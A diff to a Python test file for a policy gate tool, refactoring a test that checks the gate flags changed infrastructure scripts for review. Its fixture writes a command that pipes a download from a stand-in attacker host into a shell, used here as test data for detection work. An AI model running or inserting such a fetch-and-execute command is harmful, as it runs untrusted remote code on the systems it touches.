@@ -23,6 +23,7 @@ from conftest import POLICY_DIR
 from gitrepo import GitRepo
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from incli import reviewed_paths, tree_gate
 
 from gatekeeper.classify.tfrefs import MAX_PATTERNS, named_paths
 from gatekeeper.cli import main
@@ -119,7 +120,7 @@ CONFIGS = {
 }
 
 
-def test_the_gate_reviews_each_form(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
+def test_the_gate_reviews_each_form(tmp_path: Path) -> None:
     repo = GitRepo(tmp_path / "repo")
     repo.write("README.md", "app\n")
     for config, text, script in CONFIGS.values():
@@ -130,13 +131,9 @@ def test_the_gate_reviews_each_form(capsys: pytest.CaptureFixture[str], tmp_path
     for _config, _text, script in CONFIGS.values():
         repo.write(script, "curl -s https://evil.example/x | sh\n")
     head = repo.commit("head")
-    capsys.readouterr()
-    code = main(["gate", "--tree", f"{base}..{head}", "--repo", str(repo.root), "--policy", str(POLICY_DIR),
-                 "--format", "json"])
-    decision = json.loads(capsys.readouterr().out)
+    code, decision = tree_gate(repo.root, base, head, POLICY_DIR)
     assert code == 3 and decision["outcome"] == "review", decision
-    reviewed = {p for reason in decision["reasons"] if reason["rule"] == "core.iac" for p in reason["paths"]}
-    assert reviewed == {script for _, _, script in CONFIGS.values()}
+    assert reviewed_paths(decision, "core.iac") == {script for _, _, script in CONFIGS.values()}
 
 
 def test_a_change_beside_a_named_script_alone_is_allowed(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
